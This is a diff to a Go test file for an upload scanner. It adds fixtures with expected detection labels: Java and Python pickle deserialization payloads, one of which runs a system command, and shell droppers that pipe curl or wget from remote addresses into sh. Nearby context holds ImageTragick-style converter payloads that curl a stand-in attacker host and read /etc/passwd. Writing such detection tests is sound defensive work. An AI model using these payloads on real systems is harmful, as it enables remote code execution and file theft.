@@ -54,6 +54,18 @@ func TestUploadContent(t *testing.T) {
 		{"photo.jpg", "image/jpeg", "\xff\xd8\xff\xe1<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:Description tiff:Orientation=\"1\" exif:PixelXDimension=\"640\"/></x:xmpmeta>\xff\xd9", ""},
 		{"page.html", "text/html", "<html><body><script>init()</script></body></html>", ""},
 
+		// Serialized objects, as decoders that import the file read them.
+		{"backup.ser", "application/octet-stream", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==", "deserialization-object"},
+		{"state.bin", "application/octet-stream", "\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1", "deserialization-object"},
+		{"model.pkl", "application/octet-stream", "\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.", "deserialization-object"},
+		{"data.pkl", "application/octet-stream", "\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x01a\x94K\x01s.", ""},
+		{"notes.txt", "text/plain", "rO0AB is how a Java stream starts in Base64", ""},
+
+		// Droppers: a payload fetched from an address and run.
+		{"update.exe.pdf.sh", "application/x-sh", "#!/bin/sh\ncurl http://203.0.113.7/b | sh\n", "upload-reverse-shell"},
+		{"run.sh", "text/x-shellscript", "#!/bin/bash\nwget -qO- http://198.51.100.23:8080/x.sh | sudo bash", "upload-reverse-shell"},
+		{"install.sh", "text/x-shellscript", "#!/bin/sh\ncurl -fsSL https://get.docker.com | sh\n", ""},
+
 		// Converter scripts that run a command or read a file.
 		{"exploit.jpg", "image/jpeg", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|id; curl http://evil.example/p\")'\npop graphic-context", "upload-converter-command"},
 		{"a.png", "image/png", "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'ephemeral:/etc/passwd'\npop graphic-context", "upload-converter-command"},
